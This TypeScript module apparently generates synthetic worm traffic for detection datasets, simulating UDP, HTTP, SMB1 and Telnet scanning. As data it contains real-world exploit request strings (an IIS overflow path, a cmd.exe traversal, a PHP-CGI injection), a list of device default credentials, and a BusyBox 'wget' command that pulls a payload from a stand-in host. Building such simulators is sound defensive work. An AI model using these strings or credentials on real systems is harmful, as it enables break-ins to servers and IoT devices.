// generate: programs that spread: one datagram a host, one request a host, old file sharing, default logins of devices.
import { encodeWebAnswer, encodeWebRequest, pickClientHabits, pickServerHabits } from '../app/http-habits.ts';
import { encodeSmb1, smb1Negotiate, smb1NegotiateAnswer, smbCommands } from '../app/smb1-message.ts';
import { type Ending, end, line, pickEnding, say } from '../app/turns.ts';
import { joinBytes, textBytes } from '../bytes/text.ts';
import { udpSeries } from '../datagram.ts';
import type { Host } from '../host.ts';
import type { Random } from '../random.ts';
import { pickFrom } from '../shuffle.ts';
import { tcpSeries } from '../tcp-series.ts';
import type { Turn } from '../tcp-session.ts';
import { hostText } from '../web-series.ts';
import {
  attackOn,
  type BehaviourContext,
  drawPace,
  drawSize,
  neighbour,
  outsiders,
  type PlanBehaviour,
  sameHost,
} from './behaviour.ts';
import { fillerAndNoise } from './shellcode.ts';

/** Whom a worm tries: its neighbours in turn, hosts anywhere, or both. */
function pickTargets(context: BehaviourContext, worm: Host, count: number): (number: number) => Host {
  const { random, victim } = context;
  const far = outsiders(context, Math.max(1, count));
  const nearShare = random.pick([0, 0.5, 1]);
  const shuffled = random.chance(0.5);
  const near = (number: number): Host => neighbour(victim, shuffled ? (number * 97) % 2000 : number);
  return (number) => {
    const host = random.chance(nearShare) ? near(number) : pickFrom(far, random);
    return sameHost(host, worm) ? pickFrom(far, random) : host;
  };
}

/** One datagram of some hundred bytes to one host after another; nobody answers, some refuse. */
export const planUdpWorm: PlanBehaviour = (context) => {
  const { ports, random, victim } = context;
  const worm = random.chance(0.5) ? context.attacker : random.pick(context.network.clients);
  const count = drawSize(context, 700, 2500, 30);
  const target = pickTargets(context, worm, count);
  const serverPort = random.pick([1434, 1434, 1434, 137, 5060, 53, 11_211]);
  const length = random.pick([376, 376, 404, random.integer(200, 700)]);
  const letter = random.pick([1, 1, 0x41, 0x90]);
  const body = joinBytes([Uint8Array.of(4), new Uint8Array(96).fill(letter), random.bytes(Math.max(1, length - 97))]);
  const fixed = random.integer(1024, 5000);
  const onePort = random.chance(0.7);
  const sessions = udpSeries(context, count, drawPace(random, 30, 8000), (number) => ({
    client: worm,
    server: target(number),
    clientPort: onePort ? fixed : ports(worm),
    serverPort,
    datagrams: [{ from: 'client', bytes: body, waitNs: 0 }],
  }));
  return attackOn('Worms', context, sessions, { attackers: [worm], victims: [victim] });
};

/** The same over-long request to one web server after another. */
export const planWebWorm: PlanBehaviour = (context) => {
  const { random } = context;
  const worm = random.chance(0.5) ? context.attacker : random.pick(context.network.clients);
  const count = drawSize(context, 220, 600, 12);
  const target = pickTargets(context, worm, count);
  const letter = random.pick(['N', 'X', 'A']);
  const code = Array.from({ length: random.integer(10, 60) }, () => `%u${random.text(4, '0123456789abcdef')}`).join('');
  const path = random.pick([
    `/default.ida?${letter.repeat(random.integer(180, 260))}${code}=a`,
    `/scripts/..%255c../winnt/system32/cmd.exe?/c+tftp`,
    `/${letter.repeat(random.integer(500, 1200))}`,
    `/?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input`,
  ]);
  const habits = pickClientHabits(random, random.pick(['bare', 'program']));
  const alive = random.pick([0.03, 0.15, 0.5]);
  const ending = pickEnding(random);
  const body = random.chance(0.5) ? random.bytes(random.integer(200, 3500)) : undefined;
  const sites = [pickServerHabits(random), pickServerHabits(random.fork('other'))];
  const sessions = tcpSeries(context, count, drawPace(random, 3, 200), (number, chance) => {
    const server = target(number);
    const request = {
      method: body === undefined ? 'GET' : 'POST',
      target: path,
      ...(body === undefined ? {} : { body }),
    };
    const [head, tail] = encodeWebRequest(habits, hostText(server), request);
    const turns = function* (): Generator<Turn> {
      yield say('client', joinBytes([head, tail]), 1, chance);
      const status = chance.pick([404, 400, 200, 500]);
      if (chance.chance(0.8))
        yield say('server', encodeWebAnswer(pickFrom(sites, chance), { status }, true, false), 8, chance);
      yield* end(ending, 5, chance);
    };
    const answer = chance.chance(alive) ? 'accept' : chance.pick(['ignore', 'ignore', 'refuse'] as const);
    return { client: worm, server, serverPort: 80, answer, turns: turns() };
  });
  return attackOn('Worms', context, sessions, { attackers: [worm] });
};

/** Port 445 of many hosts; those that answer are asked for their oldest dialect and sent transactions. */
export const planSmbWorm: PlanBehaviour = (context) => {
  const { random } = context;
  const worm = random.chance(0.6) ? random.pick(context.network.clients) : context.attacker;
  const count = drawSize(context, 220, 600, 12);
  const target = pickTargets(context, worm, count);
  const alive = random.pick([0.05, 0.2, 0.5]);
  const serverPort = random.pick([445, 445, 445, 139]);
  const many = random.integer(1, 14);
  const ending = pickEnding(random);
  const sessions = tcpSeries(context, count, drawPace(random, 3, 300), (number, chance) => ({
    client: worm,
    server: target(number),
    serverPort,
    answer: chance.chance(alive) ? 'accept' : chance.pick(['ignore', 'ignore', 'refuse'] as const),
    turns: smbExploit(chance.chance(0.4) ? many : 0, ending, chance),
  }));
  return attackOn('Worms', context, sessions, { attackers: [worm] });
};

function* smbExploit(transactions: number, ending: Ending, random: Random): Generator<Turn> {
  yield say('client', smb1Negotiate(['LANMAN1.0', 'LM1.2X002', 'NT LANMAN 1.0', 'NT LM 0.12']), 1, random);
  if (random.chance(0.1)) return;
  yield say('server', smb1NegotiateAnswer(random.bytes(8)), 2, random);
  const { ntTransact, sessionSetup, transaction, transaction2, treeConnect } = smbCommands;
  const name = textBytes('\0\0Windows 2000 2195\0Windows 2000 5.0\0');
  yield say(
    'client',
    encodeSmb1({
      command: sessionSetup,
      answer: false,
      words: [0xff, 0, 0x1104, 10, 0, 0, 0, 0, 0, 0, 0xd4, 0, 0],
      data: name,
    }),
    1,
    random,
  );
  yield say(
    'server',
    encodeSmb1({
      command: sessionSetup,
      answer: true,
      user: 2048,
      words: [0xff, 0, 1],
      data: textBytes('Windows 7 Professional 7601\0'),
    }),
    2,
    random,
  );
  const share = joinBytes([Uint8Array.of(0), textBytes('\\\\192.168.56.20\\IPC$\0?????\0')]);
  yield say(
    'client',
    encodeSmb1({ command: treeConnect, answer: false, user: 2048, words: [0xff, 0, 8, 1], data: share }),
    1,
    random,
  );
  yield say(
    'server',
    encodeSmb1({
      command: treeConnect,
      answer: true,
      tree: 2048,
      user: 2048,
      words: [0xff, 0, 1],
      data: textBytes('IPC\0'),
    }),
    1,
    random,
  );
  const ids = { tree: 2048, user: 2048 };
  yield say(
    'client',
    encodeSmb1({
      command: transaction,
      answer: false,
      ...ids,
      words: [0, 0, 0xffff, 0xffff, 0, 0, 0, 0, 0, 0, 0, 0x4a, 0, 0x4a, 2, 0x23],
      data: textBytes('\0\\PIPE\\\0'),
    }),
    1,
    random,
  );
  yield say(
    'server',
    encodeSmb1({ command: transaction, answer: true, status: 0xc0000205, ...ids, words: [], data: new Uint8Array(0) }),
    1,
    random,
  );
  for (let number = 0; number < transactions; number++) {
    const command = number === 0 ? ntTransact : transaction2;
    const data =
      number % 3 === 0 ? fillerAndNoise(random) : random.bytes(Math.min(4100, Math.floor(random.around(1500, 0.8))));
    yield say(
      'client',
      encodeSmb1({
        command,
        answer: false,
        ...ids,
        multiplex: 65 + number,
        words: [0, data.length & 0xffff, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0],
        data,
      }),
      3,
      random,
    );
    if (random.chance(0.6)) {
      const status = random.pick([0xc000000d, 0xc0000002, 0]);
      yield say(
        'server',
        encodeSmb1({
          command,
          answer: true,
          status,
          ...ids,
          multiplex: 65 + number,
          words: [],
          data: new Uint8Array(0),
        }),
        2,
        random,
      );
    }
  }
  yield* end(ending, 20, random);
}

const defaults = [
  'root:xc3511',
  'root:vizxv',
  'admin:admin',
  'root:888888',
  'root:default',
  'support:support',
  'root:1234',
  'guest:guest',
  'user:user',
] as const;

/** Telnet of many hosts; where it is open, default words, and commands of small systems once inside. */
export const planTelnetWorm: PlanBehaviour = (context) => {
  const { random } = context;
  const worm = random.chance(0.5) ? random.pick(context.network.clients) : context.attacker;
  const count = drawSize(context, 220, 600, 12);
  const target = pickTargets(context, worm, count);
  const alive = random.pick([0.05, 0.2, 0.5]);
  const port = random.pick([23, 23, 2323]);
  const entered = random.pick([0, 0.1, 0.4]);
  const ending = pickEnding(random);
  const tries = random.integer(1, 6);
  const sessions = tcpSeries(context, count, drawPace(random, 3, 300), (number, chance) => ({
    client: worm,
    server: target(number),
    serverPort: chance.chance(0.1) ? 2323 : port,
    answer: chance.chance(alive) ? 'accept' : chance.pick(['ignore', 'ignore', 'refuse'] as const),
    turns: telnetTries(tries, entered, ending, chance),
  }));
  return attackOn('Worms', context, sessions, { attackers: [worm] });
};

function* telnetTries(tries: number, entered: number, ending: Ending, random: Random): Generator<Turn> {
  if (random.chance(0.7)) {
    yield say('server', Uint8Array.of(255, 253, 1, 255, 253, 31, 255, 251, 1, 255, 251, 3), 20, random);
    yield say('client', Uint8Array.of(255, 252, 1, 255, 252, 31, 255, 254, 1, 255, 254, 3), 5, random);
  }
  for (let number = 0; number < tries; number++) {
    const [user = '', secret = ''] = random.pick(defaults).split(':');
    yield say('server', random.pick(['login: ', 'Username:', '\r\nhost login: ']), 60, random);
    yield line('client', user, 10, random);
    yield say('server', 'Password: ', 30, random);
    yield line('client', secret, 10, random);
    if (random.chance(entered)) {
      yield say('server', '\r\nBusyBox v1.19.4 built-in shell (ash)\r\n# ', 300, random);
      for (const command of [
        'enable',
        'system',
        'shell',
        'sh',
        `/bin/busybox ${random.text(5).toUpperCase()}`,
        'cat /proc/mounts',
        `cd /tmp; wget http://198.51.100.9/${random.text(4)} -O -> ${random.text(4)}`,
      ]) {
        yield line('client', command, 15, random);
        yield say('server', `${command}\r\n${random.text(random.integer(0, 200))}\r\n# `, 25, random);
      }
      break;
    }
    yield say('server', '\r\nLogin incorrect\r\n', 900, random);
  }
  yield* end(ending, 200, random);
}
